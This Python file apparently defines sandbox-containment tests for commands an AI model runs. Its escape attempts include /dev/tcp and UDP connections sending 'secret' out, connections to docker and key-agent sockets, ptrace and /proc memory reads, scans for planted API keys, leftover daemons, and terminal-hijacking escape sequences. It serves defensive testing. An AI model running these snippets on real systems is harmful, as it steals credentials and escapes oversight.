"""Escapes that try to reach others: over the network, by sockets, by signals, in memory, on a terminal."""

from mulligan.drill.claims import holds, never_tells_the_model, tells_the_model
from mulligan.drill.fault import FolderStep
from mulligan.drill.gallery.commands import LEAVING, note_who_is_left
from mulligan.drill.gallery.sandbox.bystander import ENDED, MEETING, NOTES, STARTED
from mulligan.drill.gallery.sandbox.escape import HOME, PYTHON, SECRET, Escape

OUTSIDE = {**HOME, "user/open/shown.txt": "shown"}


def _met(name: str, title: str, promise: str, program: str, *, settings: str = "") -> Escape:
    """Runs at the same time as a bystander, which must not be reached."""
    return Escape(
        name,
        title,
        promise,
        MEETING + program,
        before=(STARTED,),
        after=(ENDED,),
        outside=OUTSIDE,
        claims=(holds(NOTES, "nothing"),),
        settings=settings,
    )


TAKING_OVER = "\x1b]0;owned\x07\x1b[2J\x9b31m\x90payload\x9c\x1b]52;c;cGFzdGVk\x07"

REACHING = (
    _met(
        "tcp",
        "a command connects to a service",
        "network",
        """
attempt("loopback", lambda: socket.create_connection(("127.0.0.1", BYSTANDER["tcp"]), timeout=2))
attempt("any address", lambda: socket.create_connection(("0.0.0.0", BYSTANDER["tcp"]), timeout=2))
attempt("mapped", lambda: socket.create_connection(("::ffff:127.0.0.1", BYSTANDER["tcp"]), timeout=2))
attempt("shell", lambda: 1 / (os.system(f"exec 2>&-; bash -c 'echo > /dev/tcp/127.0.0.1/{BYSTANDER['tcp']}'") == 0))
def far():
    one = socket.socket()
    one.settimeout(2)
    one.connect(("192.0.2.1", 80))
attempt("far away", far)
""",
    ),
    _met(
        "udp",
        "a command sends packets and asks for names",
        "network",
        """
def send(port, host="127.0.0.1"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(1)
        one.connect((host, port))
        one.send(b"secret")
        one.send(b"again")
        one.recv(10)
attempt("packet", lambda: send(BYSTANDER["udp"]))
attempt("name server", lambda: send(53, "192.0.2.53"))
attempt("name", lambda: socket.getaddrinfo("drill.invalid", 80))
""",
    ),
    _met(
        "abstract-socket",
        "a command connects to an abstract socket",
        "sockets",
        """
def reach(name):
    one = socket.socket(socket.AF_UNIX)
    one.connect(name)
attempt("abstract", lambda: reach(f"\\0bystander-{PID}"))
attempt("screen", lambda: reach("\\0/tmp/.X11-unix/X0"))
""",
    ),
    _met(
        "agent-socket",
        "a command connects to the sockets of agents that hold keys",
        "sockets",
        """
def reach(name):
    one = socket.socket(socket.AF_UNIX)
    one.connect(os.fspath(name))
attempt("agent", lambda: reach(HOME / "agent.sock"))
os.symlink(HOME / "agent.sock", "link.sock")
attempt("by a link", lambda: reach("link.sock"))
attempt("by proc", lambda: reach(f"/proc/{PID}/cwd/user/agent.sock"))
for name in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"):
    try:
        reach(name)
        print("REACHED", name)
    except OSError as error:
        print(error)
""",
    ),
    _met(
        "socket-in-shown-folder",
        "a command connects to a socket in a folder that it may read",
        "sockets",
        """
def reach(name):
    one = socket.socket(socket.AF_UNIX)
    one.connect(os.fspath(name))
print((HOME / "open/shown.txt").read_text())
attempt("socket", lambda: reach(HOME / "open/agent.sock"))
""",
        settings='sandbox_read = ["~/open"]\n',
    ),
    _met(
        "odd-sockets",
        "a command uses kinds of sockets that builds have no use for",
        "network",
        """
for family in ("PACKET", "VSOCK", "ALG", "BLUETOOTH", "CAN", "KEY"):
    number = getattr(socket, f"AF_{family}", 0)
    if number:
        try:
            socket.socket(number, socket.SOCK_DGRAM if family != "ALG" else socket.SOCK_SEQPACKET).close()
            print(family, "WORKED")
        except OSError as error:
            print(error)
attempt("cipher", lambda: socket.socket(38, socket.SOCK_SEQPACKET).bind(("hash", "sha256")))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("packet", lambda: socket.socket(17, socket.SOCK_RAW))
""",
    ),
    _met(
        "signals",
        "a command signals another program",
        "signals",
        """
attempt("signal", lambda: os.kill(PID, signal.SIGUSR1))
attempt("group", lambda: os.killpg(PID, signal.SIGUSR1))
attempt("thread", lambda: signal.pthread_kill and LIBC.tgkill(PID, PID, 10) and 1 / 0)
attempt("descriptor", lambda: signal.pidfd_send_signal(os.pidfd_open(PID), signal.SIGUSR1))
import resource
attempt("limit", lambda: resource.prlimit(PID, resource.RLIMIT_CORE, (0, resource.RLIM_INFINITY)))
""",
    ),
    _met(
        "memory-of-others",
        "a command reads the memory and the environment of another program",
        "memory-of-others",
        """
attempt("environment", lambda: read(f"/proc/{PID}/environ"))
def look():
    with open(f"/proc/{PID}/mem", "rb", buffering=0) as file:
        file.seek(BYSTANDER["address"])
        return file.read(BYSTANDER["length"])
attempt("mem", look)
here = ctypes.create_string_buffer(100)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
mine = Vector(ctypes.addressof(here), BYSTANDER["length"])
theirs = Vector(BYSTANDER["address"], BYSTANDER["length"])
attempt("vm_readv", lambda: call("process_vm_readv", PID, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0))
def trace():
    call("ptrace", 0x4206, PID, None, None)
    call("ptrace", 17, PID, None, None)
attempt("ptrace", trace)
attempt("getfd", lambda: call("pidfd_getfd", os.pidfd_open(PID), BYSTANDER["held"], 0))
attempt("maps", lambda: open(f"/proc/{PID}/maps").read().index("-"))
def attach():
    LIBC.shmat.restype = ctypes.c_void_p
    found = LIBC.shmget(BYSTANDER["key"], 0, 0)
    if found < 0:
        raise OSError(ctypes.get_errno())
    return ctypes.string_at(LIBC.shmat(found, None, 0o10000), 10)
attempt("shared segment", attach)
""",
    ),
    _met(
        "terminal-of-others",
        "a command writes to another terminal of the user's",
        "terminal",
        """
def spoil():
    with open(BYSTANDER["terminal"], "wb", buffering=0) as file:
        file.write(b"\\x1b[2J")
attempt("write", spoil)
attempt("read", lambda: os.open(BYSTANDER["terminal"], os.O_RDONLY | os.O_NONBLOCK))
""",
    ),
    Escape(
        "own-key",
        "a command looks for keys in all programs, Mulligan among them",
        "memory-of-others",
        """
def search(name):
    for each in Path("/proc").iterdir():
        if each.name.isdecimal():
            try:
                if SECRET.encode() in (each / name).read_bytes():
                    return each
            except OSError:
                pass
    raise OSError("in none")
attempt("environment", lambda: search("environ"))
attempt("own", lambda: [value for value in os.environ.values() if SECRET in value][0])
""",
        before=(STARTED,),
        after=(ENDED,),
        outside=OUTSIDE,
        environ={"MULLIGAN_API_KEY": SECRET, "AWS_SECRET_ACCESS_KEY": SECRET},
    ),
    Escape(
        "environment",
        "a program prints its environment",
        "environment",
        """
for name, value in os.environ.items():
    print(name, value)
for name in ("SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS", "DISPLAY", "GITHUB_TOKEN", "ANY_NAME", "PIP_INDEX_URL",
             "BUNDLE_GEM__EXAMPLE__COM", "LD_PRELOAD", "BASH_ENV"):
    if name in os.environ:
        print("GOT", name)
attempt("key", lambda: os.environ["GITHUB_TOKEN"])
""",
        environ={
            "GITHUB_TOKEN": SECRET,
            "ANY_NAME": SECRET,
            "PIP_INDEX_URL": "https://abcdefgh@example.org/simple",
            "BUNDLE_GEM__EXAMPLE__COM": "abcdefgh",
            "SSH_AUTH_SOCK": "/nowhere",
            "DBUS_SESSION_BUS_ADDRESS": "unix:path=/nowhere",
            "DISPLAY": ":7",
            "BASH_ENV": "/dev/null",
        },
        claims=(never_tells_the_model("GOT "), tells_the_model("PATH"), never_tells_the_model("abcdefgh")),
    ),
    Escape(
        "daemon",
        "a command leaves a process of another session behind",
        "processes",
        "",
        line=f"{PYTHON} leaving.py",
        files=LEAVING,
        after=(FolderStep(note_who_is_left),),
        claims=(tells_the_model("It is started."), holds("held", "nobody")),
    ),
    Escape(
        "daemon-without-environment",
        "the same, by a double fork and without its environment",
        "processes",
        "",
        line=f"{PYTHON} leaving.py",
        files={
            "leaving.py": "import fcntl, os, time\n"
            "held = open('held', 'w')\n"
            "fcntl.flock(held, fcntl.LOCK_EX)\n"
            "os.set_inheritable(held.fileno(), True)\n"
            "read, write = os.pipe()\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            "        os.write(write, b'1')\n"
            "        for number in (0, 1, 2, read, write):\n"
            "            os.close(number)\n"
            "        os.execve('/bin/sleep', ['sleep', '20'], {})\n"
            "    os._exit(0)\n"
            "os.read(read, 1)\n"
            "time.sleep(0.2)\n"
            "print('It is started.')\n"
        },
        after=(FolderStep(note_who_is_left),),
        claims=(tells_the_model("It is started."), holds("held", "nobody")),
    ),
    Escape(
        "terminal-output",
        "a command's output takes hold of the terminal",
        "terminal",
        f"""
sys.stdout.write({TAKING_OVER!r} + "\\n")
attempt("output", lambda: 1 / 0)
""",
        claims=tuple(never_tells_the_model(each) for each in ("\x1b", "\x9b", "\x90", "\x07")),
    ),
)
